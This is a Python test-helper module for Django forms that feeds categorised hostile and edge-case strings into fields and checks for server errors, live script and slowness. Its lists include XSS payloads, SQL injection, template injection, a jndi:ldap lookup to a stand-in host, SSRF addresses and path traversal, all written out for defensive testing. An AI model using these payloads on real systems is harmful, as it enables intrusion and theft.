"""Strings that break software, in the categories a form, a search field, a file name or an importer can meet.

Use it on any field of any form:

    @pytest.mark.parametrize("text", every_bad_string())
    def test_my_field(text): ...

or, for a whole form behind an address, `assert_survives(client, url, {"title": "A title"}, fields=["title"])`, which
puts each string in each field and checks what the house promises: no 5xx, no script that runs, an answer in time.
"""

import html
import re
import time
from collections.abc import Iterator
from zlib import crc32

import pytest
from django.test import Client

LIMITS = (1, 50, 100, 255, 256, 1000, 5000, 5001, 20_001)
MAX_SECONDS = 5
# A string that stands for itself in an answer must be escaped; these would run if it were not.
LIVE = ("<script>kring", "<img src=x onerror=kring", "<svg onload=kring", 'onmouseover="kring', "javascript:kring")


def _control(start: int, stop: int) -> list[str]:
    return [f"a{chr(code)}b" for code in range(start, stop)]


BAD_STRINGS: dict[str, list[str]] = {
    "empty and blank": [
        "", " ", "   ", "\t", "\n", "\r\n", "\r", "\n\n\n\n", "\x0b", "\x0c", "\xa0", "\u1680", "\u2000", "\u2003",
        "\u2009", "\u200a", "\u2028", "\u2029", "\u202f", "\u205f", "\u3000", "\u2800", "\u3164", "\u115f", "\uffa0",
        " \u200b ", "\ufeff", "\u00ad", "\u180e", "\u2060",
    ],
    "lengths": [
        *("x" * number for number in LIMITS), *("ë" * number for number in LIMITS),
        *("👍" * number for number in LIMITS), "word " * 4000, "x " * 10_000, "a\n" * 5000, "x" * 100_000,
        "-" * 30_000,
    ],
    "one megabyte": [
        "x" * 2**20, "ë" * 2**19,
    ],
    "controls": [
        *_control(0, 32), *_control(0x7F, 0xA0), "\x00", "\x00\x00abc", "abc\x00", "a\x1b[31mred\x1b[0m",
        "\x08\x08\x08",
    ],
    "header and mail injection": [
        "a\r\nBcc: all@duinrand.example", "a\nBcc: all@duinrand.example", "a%0d%0aSet-Cookie: x=1",
        "a\r\n\r\n<script>kring()</script>", "Subject: x\r\nX-Kring: 1", "a\u2028Bcc: x@y.example",
        "a\x85Bcc: x@y.example", "=?utf-8?q?=0d=0aBcc:_x@y.example?=", "bo@duinrand.example\nada@duinrand.example",
        "\"a\nb\"@duinrand.example", "a\r\n.\r\nMAIL FROM:<x@y.example>", "%0aContent-Length:%200",
    ],
    "direction and invisible": [
        "\u202egnp.exe", "abc\u202dxyz", "\u2066a\u2067b\u2068c\u2069", "a\u200bb", "a\u200cb", "a\u200db",
        "a\u2060b", "a\ufeffb", "\u061ca", "\u200fשלום", "ab\u202c\u202c\u202c", "\u202e" * 500, "ad\u200bmin",
        "a\u00adb", "a\u034fb", "\U000e0041\U000e0042", "مرحبا بالعالم", "שלום עולם", "abc مرحبا def", "\u2067" * 100,
    ],
    "combining floods": [
        "Z\u0351\u036b\u0343\u036a\u0302", "a" + "\u0300" * 1000, "e\u0301", "é", "\u0301", "\u0301" * 300,
        "n\u0303" * 200, "a\u0336" * 100, "ก็็็็็็็็็็็็็็็็็็็็", "ด้้้้้็็็็็้้้้้็็็็", "\u1ab0" * 100, "a\u20dd",
        "ﷺ" * 50, "ﬀ", "Ǆ", "Å", "Å", "ạ̊̄",
    ],
    "surrogates and encodings": [
        "\ud800", "a\udfffb", "\udc80abc", "\ud83d", "\ud83d\ude00", "\ufffd", "\ufffe", "\uffff", "\U0010ffff",
        "\U0001fffe", "Ã©Ã«", "â€™", "caf\udce9", "%c0%ae%c0%ae/", "%E0%80%AF", "%ff%fe", "+ADw-script+AD4-",
        "&#xD800;", "\\ud800", "ï»¿bom",
    ],
    "emoji": [
        "👍", "👨‍👩‍👧‍👦", "👩🏽‍💻", "🇳🇱", "🇳🇱🇳", "🏴󠁧󠁢󠁳󠁣󠁴󠁿", "1️⃣", "❤️", "❤", "🤷🏿‍♀️", "👍🏻👍🏿", "‍", "️", "🏳️‍🌈" * 200,
        "😀" * 3000, "🧑‍🤝‍🧑", "🫠", "🪿", "a👍b", "👁️‍🗨️",
    ],
    "case folding": [
        "İstanbul", "ıI", "iİIı", "ß", "STRASSE", "straße", "ẞ", "ſ", "K", "Å", "ΌΣΟΣ", "όσος", "ς", "ŉ", "ǰ", "ﬃ",
        "ᾳ", "Ω", "Ⅷ", "Ⓐ", "İ@duinrand.example", "admın@duinrand.example",
    ],
    "names": [
        "O'Brien", "d'Ancona", "van der Berg", "’t Hart", "'s-Gravenzande", "Ó", "X", "Li", "Nguyễn Thị Minh Khai",
        "Łukasz Żółć", "Jiří Dvořák", "Ğülşen İnönü", "Sjoerdsma-de Vries", "Fedde fan 'e Wâl",
        "Jan-Willem van den Heuvel tot Beichlingen", "Null", "null", "None", "undefined", "NaN", "True", "Test",
        "Anne Marie d’Estaing-Łęcka", "A" * 150, "Ægir", "Þór", "Björk Guðmundsdóttir", "李小龙", "さくら", "김",
        "Александр", "محمد", "Christopher Null", "Dr. Ing. h.c. F. Porsche AG", "M.", "-", ".",
    ],
    "html": [
        "<script>kring()</script>", "<SCRIPT SRC=//x.example/a.js></SCRIPT>", "<img src=x onerror=kring()>",
        "<svg onload=kring()>", "<svg><script>kring()</script></svg>", "<math><mi xlink:href='javascript:kring()'>x",
        "<iframe srcdoc='<script>kring()</script>'>", "<body onload=kring()>", "<a href=javascript:kring()>x</a>",
        "<a href='java\tscript:kring()'>x</a>", "\"><script>kring()</script>", "' onmouseover='kring()",
        '" onmouseover="kring()', "</textarea><script>kring()</script>", "</title><script>kring()</script>",
        "</script><script>kring()</script>", "<!--><script>kring()</script>-->",
        "<![CDATA[<script>kring()</script>]]>", "<noscript><p title=\"</noscript><img src=x onerror=kring()>\">",
        "<style>@import'//x.example'</style>", "<b", "<", ">", "&", "&lt;", "&#60;script&#62;",
        "&amp;lt;script&amp;gt;", "<scr<script>ipt>kring()</script>", "<<script>kring();//<</script>",
        "<input autofocus onfocus=kring()>", "<details open ontoggle=kring()>", "<video><source onerror=kring()>",
        "<form action=//x.example><button>x", "<base href=//x.example/>",
        "<meta http-equiv=refresh content=0;url=//x.example>", "<link rel=stylesheet href=//x.example>",
        "<object data=data:text/html,x>", "<template><script>kring()</script></template>",
        "<x-a is=x onclick=kring()>", "<a" + " a" * 2000, "<div>" * 2000,
        "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=kring()&gt;\">",
        "<svg></p><style><a id=\"</style><img src=1 onerror=kring()>\">",
    ],
    "markdown and rich text": [
        "[x](javascript:kring())", "[x](JaVaScRiPt:kring())", "[x](data:text/html;base64,PHNjcmlwdD4=)",
        "![x](https://x.example/p.gif)", "[x](<javascript:kring()>)", "[x]: javascript:kring()",
        "<javascript:kring()>", "[x](\x01javascript:kring())", "[x](&#106;avascript:kring())", "[" * 3000,
        "[a](" * 2000, "**a *a " * 1000, "`" * 3000, "> " * 2000, "- " * 2000, "* * * *", "# title", "===\n---",
        "| a | b |\n|---|---|", "1. a\n" * 1000, "~~~\ncode", "```\n</pre><script>kring()</script>", "\\" * 3000,
        "_" * 3000, "http://" * 1000, "a@b." * 1000,
        '{"blocks":[{"text":"x","type":"atomic","entityRanges":[{"key":9}]}],"entityMap":{}}',
        '{"blocks":null,"entityMap":null}', "[[wiki]] {{x}}", "[x](//x.example)",
        "[x](https://x.example \"' onclick='kring()\")",
    ],
    "css": [
        "expression(kring())", "url(javascript:kring())", "}</style><script>kring()</script>",
        "x;background:url(//x.example)", "@import url(//x.example);", "a{}" * 1000, "\\65 xpression(kring())",
        "var(--x)", "position:fixed;inset:0", "/*", "*/", "calc(1px/0)",
    ],
    "url schemes": [
        "javascript:kring()", "JAVASCRIPT:kring()", " javascript:kring()", "java\nscript:kring()",
        "data:text/html,<script>kring()</script>", "vbscript:x", "file:///etc/passwd", "gopher://127.0.0.1:25/",
        "ftp://x.example", "http://127.0.0.1:8000/", "http://[::1]/", "http://169.254.169.254/latest/",
        "http://0x7f000001/", "http://2130706433/", "http://x.example@127.0.0.1/", "http://x.example:99999/",
        "http://", "http://.", "http://[", "https://ex ample", "blob:x", "view-source:x", "//x.example", "http:x",
        "tel:+31", "mailto:a@b?bcc=c@d", "http://xn--/", "http://a" + ".a" * 500, "http://💩.example/", "http://x/%",
    ],
    "next": [
        "//x.example", "///x.example", "\\\\x.example", "/\\x.example", "https:x.example", "https:/x.example",
        "http:///x.example", "/%09/x.example", "/\t/x.example", "\t//x.example", "/..//x.example",
        "https://x.example\\@kring.example", "https://kring.example.x.example", "?next=//x.example",
        "javascript:kring()//", "%2f%2fx.example", "/%2f%2fx.example", "//x.example/%2f..", "////x.example",
        "https://user:pw@x.example", "/login/?next=/login/",
    ],
    "template syntax": [
        "{{ 7*7 }}", "{{ request.user.password }}", "{% include 'admin' %}", "{{ settings.SECRET_KEY }}",
        "{{''.__class__.__mro__[1].__subclasses__()}}", "{% raw %}", "{#", "${7*7}", "#{7*7}", "<%= 7*7 %>", "{{",
        "}}", "{% ", "%(name)s", "%s", "%", "%%", "{0}", "{}", "{0.__class__}", "{name!r:>1000000000}", "$(id)",
        "`id`", "${jndi:ldap://x.example/a}", "#set($x=1)", "[[${7*7}]]",
    ],
    "sql and lookups": [
        "'", "''", "\"", "' OR '1'='1", "'; DROP TABLE accounts_user; --", "1; SELECT pg_sleep(5)", "admin'--",
        "' UNION SELECT NULL--", "\\'", "%27", "\\", "%", "_", "%_%", "__", "user__password__startswith", "id__in",
        "_connector", "_negated", "pk", "x' AND 1=(SELECT COUNT(*) FROM t)--", "1)) OR ((1", "/**/", "--", "0x27",
        "CHAR(39)", "$$", "$1", "?", "NULL", "';--", "\x00'", "ROW(1,1)",
    ],
    "formula cells": [
        "=1+1", "+1", "-1", "@SUM(1)", "\t=1", "\r=1", "=HYPERLINK(\"http://x.example\")", "=cmd|'/c calc'!A1",
        "＝1+1", "\"=1+1\"", ";=1", ",=1", "=A1&B1", "-2+3+cmd|' /C calc'!A0",
    ],
    "search syntax": [
        "*", "?", "*:*", "AND", "OR NOT", "a AND", "(", ")", "((((((((((", "[a TO b]", "{a TO b}", "a~", "a~99", "a^",
        "a^-1", "\"", "\"a", "a:b", "_exists_:x", "/.*/", "/(a+)+$/", "\\", "+-&&||!(){}[]^\"~*?:\\/", "* * * *",
        "a* b* c*", "NEAR(a b)", "^a", "a NOT b", "col : x", "&", "|", "!", "<->", "a & & b", ":*", "<script> AND \"",
        "a" * 300 + "*", "OR " * 500,
    ],
    "regular expressions": [
        "(a+)+$", "(a|a)*b", "a" * 5000 + "!", "((a*)*)*b", "[", "(?P<x>", "\\", "*", "(?i", "a{99999}", "(" * 500,
        "\\1", "$^", "[[:alpha:]]", "x*" * 500, " " * 20_000 + "x", "a@" * 2000, "a." * 2000, "<" * 5000, "=" * 5000,
    ],
    "numbers": [
        "NaN", "nan", "Infinity", "-Infinity", "inf", "1e309", "-1e309", "1e-400", "-0", "0", "00", "01", "+1", "1.0",
        "1,0", "1.000,00", "1_000", "0x10", "0b1", "1e5", str(2**31 - 1), str(2**31), str(2**63 - 1), str(2**63),
        str(-(2**63)), str(2**64), "9" * 400, "١٢٣", "１２３", "½", "²", "-1", "1 000", "1.", ".5", "٣",
    ],
    "dates": [
        "0000-00-00", "0001-01-01", "9999-12-31", "10000-01-01", "2026-02-29", "2028-02-29", "2026-02-30",
        "2026-13-01", "2026-03-29T02:30", "2026-10-25T02:30", "2026-12-31T23:59:60", "1582-10-10",
        "1969-12-31T23:59:59", "2038-01-19T03:14:08", "24-12-2026", "12/24/2026", "2026-12-24T25:00",
        "2026-12-24 17:00+99:00", "2026-W53-7", "tomorrow", "1e10", "2026-12-24T17:00Z", "-0001-01-01T00:00",
        "2026-12-24T17", "٢٠٢٦-١٢-٢٤", "2026-1-1", "  2026-01-01  ",
    ],
    "json": [
        "{", "}", "[]", "{}", "null", "true", "[" * 10_000, "{\"a\":" * 10_000, '{"a":1,"a":2}',
        '{"__proto__":{"x":1}}', '"\\ud800"', '{"a":1e999}', '{"a":NaN}', "[1,]", "{'a':1}", '{"$where":"1"}',
        '{"$gt":""}', '"' + "x" * 5000 + '"', '{"":""}', "\ufeff{}", "[[[[]]]]", '{"a":' + "1" * 5000 + "}", "\"",
        "1 2",
    ],
    "identifiers": [
        "-1", "0", "1.5", "1e3", "0x1", "1 OR 1=1", "1,2", "1;2", "../1", "..%2f1", "....//1", "/etc/passwd",
        "..\\..\\x", "C:\\x", "1\x00", "1\n", "null", "self", "me", "admin", "00000000-0000-0000-0000-000000000000",
        "not-a-uuid", str(2**63), "9" * 30, "١", "page:1", "wagtailcore.page", "1/2", "1#2", "1?2", ".", "..", "~",
        "CON", "x.php", "a/b", "%2e%2e", "1%00", "[]", "id[]=1",
    ],
}  # fmt: skip


def every_bad_string(*categories: str, longest: int | None = None) -> list:
    """Every string (of these categories) as a pytest parameter with a readable name, for `parametrize`."""
    return [
        pytest.param(text, id=f"{category} {number}")
        for category, number, text in walk(*categories)
        if longest is None or len(text) <= longest
    ]


def walk(*categories: str) -> Iterator[tuple[str, int, str]]:
    """(category, number, string) for all of them."""
    for category, texts in BAD_STRINGS.items():
        if not categories or category in categories:
            for number, text in enumerate(texts):
                yield category, number, text


def some(field: str, per_category: int | None) -> Iterator[tuple[str, int, str]]:
    """So many strings of every category, other ones for another field; None for all of them."""
    for category, texts in BAD_STRINGS.items():
        number = len(texts) if per_category is None else min(per_category, len(texts))
        first = crc32(f"{field} {category}".encode())
        for step in range(number):
            index = (first + step * len(texts) // number) % len(texts)
            yield category, index, texts[index]


def as_sent(text: str) -> str:
    """What a browser or a hostile client can put on the wire: half characters cannot be sent as UTF-8."""
    return text.encode("utf-8", "replace").decode()


def assert_survives(
    client: Client,
    url: str,
    data: dict | None = None,
    *,
    fields: list[str],
    method: str = "post",
    per_category: int | None = 2,
    **extra,
) -> None:
    """Put strings of every category in each of `fields` of the form at `url`, the others as in `data`, and check each
    answer. Two of each category by default, because a form is slow; None for all of them.

    `extra` goes to the client (headers for htmx, say). Stops at the first answer that breaks a promise, and names it.
    """
    for field in fields:
        for category, number, text in some(f"{url} {field}", per_category):
            started = time.monotonic()
            response = getattr(client, method)(url, {**(data or {}), field: as_sent(text)}, **extra)
            assert_calm(response, f"{field}: {category} {number} {text[:60]!r}", time.monotonic() - started)


def assert_calm(response, what: str = "", seconds: float = 0) -> None:
    """No server error, nothing of what was sent runs, and not too slow."""
    assert response.status_code < 500, f"{response.status_code} for {what}"
    assert seconds < MAX_SECONDS, f"{seconds:.1f} s for {what}"
    if response.get("Content-Type", "").startswith("text/html") and not response.streaming:
        page = response.content.decode()
        for live in [live for live in LIVE if live in page]:
            assert live not in _outside_text(page), f"{live} is alive in the answer to {what}"


def assert_nothing_lost(response, name: str, text: str) -> None:
    """A refused form shows the typed text again in its field."""
    page = response.content.decode()
    tag = re.search(rf'<(textarea|input)\b[^>]*\bname="{name}"[^>]*>\n?([^<]*)', page)
    assert tag, f"no field {name} in the answer"
    value = re.search(r'\bvalue="([^"]*)"', tag.group(0))
    found = html.unescape(tag.group(2) if tag.group(1) == "textarea" else value.group(1) if value else "")
    assert " ".join(found.split()) == " ".join(text.split()), f"{name} lost {text[:60]!r}"


def _outside_text(page: str) -> str:
    """Markup without what is only shown: in the value of an attribute `javascript:` is a text, in `href` it is not."""
    shown = r'(?:value|alt|content|aria-label|title|data-[a-z-]+)="[^"]*"|<textarea[^>]*>[^<]*</textarea>|>[^<]*<'
    return re.sub(shown, "", page)
